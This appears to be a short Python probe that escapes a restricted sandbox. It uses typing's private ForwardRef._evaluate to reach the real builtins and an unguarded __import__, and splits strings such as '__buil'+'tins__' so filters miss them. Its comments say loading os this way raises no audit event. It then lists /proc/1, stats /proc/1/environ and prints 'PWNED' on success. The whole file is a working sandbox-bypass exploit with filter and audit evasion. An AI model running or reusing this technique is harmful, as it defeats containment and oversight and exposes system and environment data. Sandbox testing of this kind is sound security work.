# fs: os.scandir of /proc/1 and stat of its files
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    names = [e.name for e in o.scandir("/proc/1")][:8]
    print(M, names, o.stat("/proc/1/environ").st_size)
except Exception as e:
    print("refused:", type(e).__name__, e)
